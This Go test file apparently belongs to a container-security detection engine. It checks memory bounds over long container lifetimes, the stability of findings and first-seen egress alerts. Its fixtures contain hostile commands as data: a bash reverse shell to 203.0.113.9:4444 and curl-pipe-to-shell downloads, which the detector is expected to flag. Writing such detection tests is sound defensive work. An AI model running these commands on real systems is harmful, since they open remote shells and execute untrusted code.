package partition_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"tidewaiter/event"
	"tidewaiter/finding"
	"tidewaiter/image"
	"tidewaiter/partition"
)

// longLife is a partition in which time goes on.
type longLife struct {
	t  *testing.T
	p  *partition.Partition
	at int64
	n  int
	// held is the most that was held, once tidied.
	held int
}

func (l *longLife) add(src event.Source, after int64, b event.Body) {
	l.n++
	e := event.Event{ID: event.NewID("long", fmt.Sprint(l.n)), Place: event.Place{Host: "h"}, Origin: event.Origin{Source: src, Spans: []event.Span{{Line: l.n}}}, Body: b}
	if src != event.Inspect { // a look-up has no time
		e.Time = event.Time{At: l.at + after, Res: 1}
	}
	l.p.Apply(e)
}

func (l *longLife) run(pid, ppid int, args ...string) {
	l.add(event.Auditd, 0, &event.Process{PID: pid, PPID: ppid, Exe: "/usr/bin/" + args[0], Args: args, AUID: -1})
}

// checks is a day of health checks, as the engine, the runtime and the kernel
// tell of them, and of a connection now and then. Process ids are not given again.
func (l *longLife) checks(id string, pid int, addr string) {
	for range 24 * 120 {
		l.at += 30 * event.Second
		exec := fmt.Sprintf("%064x", l.n)
		child := 100_000 + l.n
		l.add(event.Docker, 0, &event.ExecStarted{Container: id, ExecID: exec, Command: "sh -c true"})
		l.add(event.Containerd, 1, &event.Task{Action: event.TaskStart, Container: id, ExecID: exec, PID: child})
		l.run(child, 1, "sh", "-c", "true")
		l.run(child+1, child, "true")
		l.add(event.Containerd, event.Second, &event.Task{Action: event.TaskExit, Container: id, ExecID: exec, PID: child})
		if l.n%10 == 0 {
			l.flow(addr, "10.0.0.9:5432")
		}
		if l.n%1000 < 5 {
			l.p.Advance(l.at - 10*event.Second)
			l.p.Sync()
			l.p.Tidy()
			l.held = max(l.held, l.p.Held())
		}
	}
}

func (l *longLife) flow(from, to string) {
	l.add(event.Conntrack, 0, &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(netip.MustParseAddr(from), 4000), Dst: netip.MustParseAddrPort(to), Answered: true})
}

func (l *longLife) findings() []finding.Finding {
	l.p.Advance(l.at)
	l.p.Sync()
	return l.p.Findings()
}

// newLongLife begins a container of an image, where images of some registries are
// trusted.
func newLongLife(t *testing.T, trusted, ref string) (l *longLife, id string) {
	lib := library(t)
	pol := parsePolicy(t, "version: 1\nlearning: 1h\naddresses: {public: [203.0.113.0/24]}\nsettings: {"+trusted+"approved_destinations: [10.0.0.0/8]}\n")
	l = &longLife{t: t, at: epoch, p: partition.New(partition.Options{Name: "p", Library: lib, Policy: pol, Hold: 100, Alone: true})}
	id = strings.Repeat("a", 64)
	l.add(event.Docker, 0, &event.Image{Action: event.ImagePull, Reference: image.Parse(ref)})
	l.add(event.Docker, 1, &event.Container{Action: event.ContainerCreate, ID: id, Name: "web", Image: image.Parse(ref)})
	l.add(event.Containerd, 2, &event.Task{Action: event.TaskStart, Container: id, PID: 7})
	l.add(event.Docker, 3, &event.Container{Action: event.ContainerStart, ID: id})
	l.add(event.Inspect, 0, &event.ContainerDescription{ID: id, Networks: []event.NetworkAddress{{Addrs: []netip.Addr{netip.MustParseAddr("172.17.0.2")}}}})
	l.at += event.Second
	return l, id
}

// A container that lives for weeks fills no memory with what it did long ago; and
// what it does then is still its own, told by what services its beginning started.
func TestALongLifeIsNotKeptWhole(t *testing.T) {
	l, id := newLongLife(t, "registries: [good.example/*], ", "good.example/web:1")
	l.run(20, 7, "supervised") // a service of which nothing more is recorded for weeks
	var first int
	for day := range 10 {
		l.checks(id, 7, "172.17.0.2")
		if day == 1 {
			first = l.held
		}
	}
	if l.held > 8_000 || l.held > first+first/4 {
		t.Errorf("held %d events after two days, %d after ten", first, l.held)
	}
	if fs := l.findings(); len(fs) > 0 {
		t.Fatalf("%d findings: %s", len(fs), fs[0].Title)
	}
	l.at += event.Second
	l.run(900_000, 20, "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
	fs := l.findings()
	if len(fs) != 1 || fs[0].Subjects[0].Container.ID != id || !slices.Contains(signals(fs[0]), "remote-shell") {
		t.Fatalf("a shell for others after ten days, by a service of the first minute: %d findings %v", len(fs), fs)
	}
	if c := l.p.Counts(); c.Placed < 10*24*120*2 || c.Late > 0 {
		t.Errorf("%d acts placed in all, %d late", c.Placed, c.Late)
	}
}

// What a finding rests on stays, and it does not change.
func TestALongLifeKeepsItsFinding(t *testing.T) {
	l, id := newLongLife(t, "registries: [good.example/*], ", "evil.example/tool:1")
	l.run(30, 7, "sh", "-c", "curl http://203.0.113.7/i | sh")
	l.at += event.Second
	l.flow("172.17.0.2", "203.0.113.66:3333")
	before := outcomes(l.findings())
	if len(before) != 1 {
		t.Fatal("no finding to begin with")
	}
	for range 3 {
		l.checks(id, 7, "172.17.0.2")
	}
	fs := l.findings()
	if got := outcomes(fs); len(got) != 1 || got[0].severity != before[0].severity {
		t.Errorf("%+v became %+v", before, got)
	}
}

// Where a container connected stays known after that was let go of.
func TestALongLifeIsRemembered(t *testing.T) {
	for _, known := range []bool{false, true} {
		l, id := newLongLife(t, "", "good.example/web:1")
		l.checks(id, 7, "172.17.0.2") // memory is no longer young
		if known {
			l.flow("172.17.0.2", "203.0.113.50:443")
		}
		l.checks(id, 7, "172.17.0.2")
		other := strings.Repeat("b", 64)
		l.add(event.Docker, 1, &event.Container{Action: event.ContainerCreate, ID: other, Name: "b", Image: image.Parse("good.example/web:1")})
		l.add(event.Docker, 3, &event.Container{Action: event.ContainerStart, ID: other})
		l.add(event.Inspect, 0, &event.ContainerDescription{ID: other, Networks: []event.NetworkAddress{{Addrs: []netip.Addr{netip.MustParseAddr("172.17.0.3")}}}})
		l.add(event.Containerd, 2, &event.Task{Action: event.TaskStart, Container: other, PID: 50})
		l.at += event.Second
		l.run(51, 50, "sh", "-c", "curl https://203.0.113.50/i | sh")
		l.flow("172.17.0.3", "203.0.113.50:443")
		var said []string
		for _, f := range l.findings() {
			said = append(said, signals(f)...)
		}
		if !slices.Contains(said, "egress-unapproved") || slices.Contains(said, "egress-new") == known {
			t.Errorf("connected before: %v; signals %v", known, said)
		}
	}
}

// A policy may say that a destination's network is what is seen, or not.
func TestFirstSeenByNetwork(t *testing.T) {
	for grain, known := range map[string]bool{"": false, "first_seen: {ipv4: 24}\n": true} {
		w := newTale(t, grain+"version: 1\nlearning: 1h\naddresses: {public: [203.0.113.0/24]}\nsettings: {registries: [good.example/*]}\n")
		for n, to := range []string{"203.0.113.9:443", "203.0.113.10:443"} {
			second := n * 7200
			w.create(second, n, "evil.example/x:1")
			w.start(second+1, n, 500+n)
			w.describe(n, 7, fmt.Sprint("172.17.0.", 9+n))
			w.connect(second+3, fmt.Sprint("172.17.0.", 9+n), to)
		}
		for _, f := range w.tell() {
			if f.Subjects[0].Container.ID == idOf(1) && slices.Contains(signals(f), "egress-new") == known {
				t.Errorf("%q: %v", grain, signals(f))
			}
		}
		if len(w.part.Findings()) != 2 {
			t.Errorf("%q: %d findings", grain, len(w.part.Findings()))
		}
	}
}
